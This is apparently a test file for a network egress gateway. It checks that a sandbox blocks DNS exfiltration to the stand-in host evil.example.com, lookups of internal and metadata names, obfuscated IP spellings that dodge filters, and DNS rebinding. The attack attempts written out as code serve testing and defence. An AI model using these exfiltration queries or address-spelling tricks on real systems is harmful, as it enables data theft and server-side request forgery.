import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import ranges from '../../resources/network/refused-ranges.json' with { type: 'json' };
import { type Attack, type Attempt, createAttack } from '../fixtures/attack.ts';
import { hostAddresses, type Walled } from '../fixtures/wall.ts';

/** Data in questions: none may reach a DNS server. The control asks the same of the outsider's. */
const name = `T + '.evil.example.com'`;
const types = { A: 1, NS: 2, CNAME: 5, SOA: 6, NULL: 10, PTR: 12, MX: 15, TXT: 16, AAAA: 28, SRV: 33, NAPTR: 35, DS: 43, SVCB: 64, HTTPS: 65, ANY: 255 };
const questions: readonly Attempt[] = [
  ...Object.entries(types).map(([type, number]): Attempt => ({ what: `a question for ${type}`, code: `seen = ask(WAY, ${name}, ${number})` })),
  { what: 'the longest name there is', code: `seen = ask(WAY, '.'.join([T.ljust(60, 'x')] + ['y' * 60] * 2 + ['z' * 40, 'evil.example.com']))` },
  { what: 'a question over TCP', code: `seen = ask(WAY, ${name}, over_tcp=True)` },
  {
    what: 'a question with 4 kB of options',
    code: `seen = ask(WAY, ${name}, extra=b'\\0' + struct.pack('>HHIH', 41, 4096, 0, 4004) + struct.pack('>HH', 65001, 4000) + b'x' * 4000, additional=1)`,
  },
  { what: 'a question of another class', code: `seen = ask(WAY, ${name}, klass=3)` },
  { what: 'a transfer of the zone', code: `seen = ask(WAY, ${name}, 252, over_tcp=True)` },
  { what: 'an update of the zone', code: `seen = ask(WAY, ${name}, 6, operation=5)` },
  { what: 'a notification', code: `seen = ask(WAY, ${name}, 6, operation=4)` },
  { what: "a question to the engine's resolver", code: `seen = ask('127.0.0.11', ${name})` },
  { what: "a question to the engine's resolver, over TCP", code: `seen = ask('127.0.0.11', ${name}, 16, over_tcp=True)` },
  { what: "a question by the system's own means", code: `seen = socket.getaddrinfo(${name}, 80)` },
  { what: 'a question straight to a server outside', code: `seen = ask(VICTIM, ${name}, 16)` },
  { what: 'a question straight to a server outside, over TCP', code: `seen = ask(VICTIM, ${name}, 16, over_tcp=True)` },
  {
    what: 'two hundred questions at once',
    code: `for n in range(200): s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(question('%d.%s' % (n, ${name})), (WAY, 53))`,
  },
];
const lookups: readonly Attempt[] = [
  {
    what: 'a name that is not allowed, over HTTP, is not looked up',
    code: `seen = tcp(WAY, 80, get(${name}))`,
    control: `seen = tcp(WAY, 80, get(T + '.good.example.com'))`,
    ...{ inside: true, sees: /Blocked by Forgehold/, recorded: 'not-listed' },
  },
  {
    what: 'a name that is not allowed, over TLS, is not looked up',
    code: `seen = tls(WAY, ${name}, get(${name}))`,
    control: `seen = tls(WAY, T + '.good.example.com', get('x'))`,
    ...{ inside: true, sees: /Blocked by Forgehold/, recorded: 'not-listed' },
  },
  ...['host.docker.internal', 'gateway.docker.internal', 'kubernetes.docker.internal', 'host.containers.internal', 'metadata.google.internal', 'localhost'].map(
    (host): Attempt => ({
      what: `${host} is a name like any other`,
      code: `seen = tcp(WAY, 80, get('${host}')) + ' '.join({a[4][0] for a in socket.getaddrinfo('${host}', 80, socket.AF_INET)} - {WAY, '127.0.0.1'})`,
      control: `seen = tcp(WAY, 80, get(T + '.good.example.com'))`,
      ...{ inside: true, sees: /Blocked by Forgehold[^\n]*\n$/ },
    }),
  ),
];

/** Ways to write an address instead of a name; `A` is the outsider's. In mode full, where every name would do. */
const spellings: Readonly<Record<string, string>> = {
  plain: `A`,
  'with a dot at its end': `A + '.'`,
  'with a port': `A + ':80'`,
  decimal: `str(N)`,
  hexadecimal: `hex(N)`,
  'hexadecimal parts': `'.'.join(hex(b) for b in B)`,
  'octal parts': `'.'.join('0%o' % b for b in B)`,
  short: `'%d.%d.%d' % (B[0], B[1], B[2] * 256 + B[3])`,
  'with zeros before': `'.'.join('%03d' % b for b in B)`,
  'as IPv6, mapped': `'[::ffff:' + A + ']'`,
  'as IPv6, mapped, in hexadecimal': `'[::ffff:%x:%x]' % (N >> 16, N & 65535)`,
  'as IPv6, translated': `'[64:ff9b::' + A + ']'`,
  'as IPv6, tunnelled': `'[2002:%x:%x::1]' % (N >> 16, N & 65535)`,
  'with digits of another script': `A.translate({48 + n: 0xff10 + n for n in range(10)}).encode().decode('latin1')`,
};
const spelled: readonly Attempt[] = Object.entries(spellings).flatMap(([how, text]): readonly Attempt[] => {
  const code = `A = VICTIM; B = socket.inet_aton(A); N = struct.unpack('>I', B)[0]; host = ${text}`;
  return [
    { what: `an address as Host, ${how}`, code: `${code}; seen = tcp(WAY, 80, get(host, '/' + T))`, control: `seen = tcp(WAY, 80, get(VICTIM, '/' + T))` },
    { what: `an address as server name, ${how}`, code: `${code}; seen = tcp(WAY, 443, hello(T, server_names(host)))` },
  ];
});

let attack: Attack;
let open: Walled;
beforeAll(async () => {
  attack = await createAttack([
    { suffix: '.at.example.net', kind: 'spelled' },
    { suffix: '.flips.example.net', kind: 'flip', addresses: ['198.51.100.7', 'victim'] },
    { suffix: '.both.example.net', kind: 'a', addresses: ['198.51.100.7', 'victim', '198.51.100.8'] },
    { suffix: '.alias.example.net', kind: 'cname', addresses: ['victim'] },
  ]);
  open = await attack.test.build('full');
  await attack.run([...questions, ...lookups]);
  await attack.run(spelled, open);
});
afterAll(() => attack?.end());

const what = ({ what }: Attempt): string => what;
const dashed = (address: string): string => `${address.replaceAll('.', '-')}.at.example.net`;
/** An address in a range. */
const middle = (range: string): string => range.replace(/\/\d+$/, '').replace(/\.0$/, '.9');
/** One after the other: statuses. */
function fetchAll(walled: Walled, names: readonly string[]): Promise<string> {
  return attack.test.run(walled, `for n in ${names.join(' ')}; do curl -s -m 8 -o /dev/null -w '%{http_code} ' http://$n/; done; true`);
}
async function victimVisits(): Promise<number> {
  return (await attack.victim.heard()).filter(({ via }) => via.startsWith('tcp 80')).length;
}

describe('no DNS server outside hears', () => {
  it.each(questions.map(what))('%s', async (one) => expect(await attack.judge(one)).toBe('held'));
});

describe('names', () => {
  it.each(lookups.map(what))('%s', async (one) => expect(await attack.judge(one)).toBe('held'));
});

describe('nobody is reached by', () => {
  it.each(spelled.map(what))('%s', async (one) => expect(await attack.judge(one)).toBe('held'));
});

describe('a name that is allowed, but leads to a refused address', () => {
  it('is refused in every range, and in every one of the host; with "private" it is let out, but never to what is never reached', async () => {
    const { test, one } = attack;
    const own = hostAddresses().filter((address) => /^[\d.]+$/.test(address));
    const refused = [...ranges.refused, ...ranges.never].map(({ range }) => middle(range)).concat(own, attack.victim.address);
    const reasons = (address: string): readonly string[] =>
      test
        .decisions(one)
        .filter(({ host }) => host === dashed(address))
        .map(({ verdict, reason }) => `${verdict} ${reason}`);
    const before = await victimVisits();
    await test.wall.addRule(one.workspaceId, '*.at.example.net', { allowPrivate: false, addedBy: 'user' });
    await fetchAll(one, refused.map(dashed));
    for (const address of refused) await expect.poll(() => reasons(address), { timeout: 15_000, message: address }).toEqual(['blocked refused-address']);
    expect(await victimVisits()).toBe(before);
    await test.wall.addRule(one.workspaceId, '*.at.example.net', { allowPrivate: true, addedBy: 'user' });
    expect(await fetchAll(one, [dashed(attack.victim.address)]), 'control').toBe('200');
    expect(await victimVisits()).toBeGreaterThan(before);
    const never = [...ranges.never.map(({ range }) => middle(range)), one.site.gatewayAddress, one.site.agentAddress];
    await fetchAll(one, never.map(dashed));
    for (const address of never) await expect.poll(() => reasons(address)[0], { timeout: 15_000, message: address }).toBe('blocked refused-address');
  });

  it('is judged on each connection, by the address that it is let out to: first a public one, several at once, an alias', async () => {
    const { test, one, victim } = attack;
    const before = await victimVisits();
    const seen = (host: string): readonly string[] => {
      const own = test.decisions(one).filter((decision) => decision.host === host);
      return own.map(({ verdict, address }) => `${verdict} ${address}`);
    };
    async function visit(how: string): Promise<void> {
      const host = `x.${how}.example.net`;
      await test.wall.addRule(one.workspaceId, host, { allowPrivate: false, addedBy: 'user' });
      // Longer than the gateway remembers a name.
      const line = `curl -s -m 2 -o /dev/null http://${host}/ & curl -sk -m 2 -o /dev/null https://${host}/; wait; sleep 2`;
      await test.run(one, `for n in 1 2 3 4; do ${line}; done`);
      await expect.poll(() => seen(host).length, { timeout: 15_000 }).toBeGreaterThan(3);
    }
    await Promise.all(['flips', 'both', 'alias'].map(visit));
    expect(seen('x.flips.example.net')).toEqual(expect.arrayContaining(['allowed 198.51.100.7', `blocked ${victim.address}`]));
    expect(seen('x.alias.example.net')).toContain(`blocked ${victim.address}`);
    expect(['flips', 'both', 'alias'].flatMap((how) => seen(`x.${how}.example.net`))).not.toContain(`allowed ${victim.address}`);
    expect(await victimVisits()).toBe(before);
    for (const host of ['x.flips.example.net', 'x.alias.example.net']) {
      await test.wall.addRule(one.workspaceId, host, { allowPrivate: true, addedBy: 'user' });
      expect(await fetchAll(one, [host]), 'control').toBe('200');
    }
  });
});
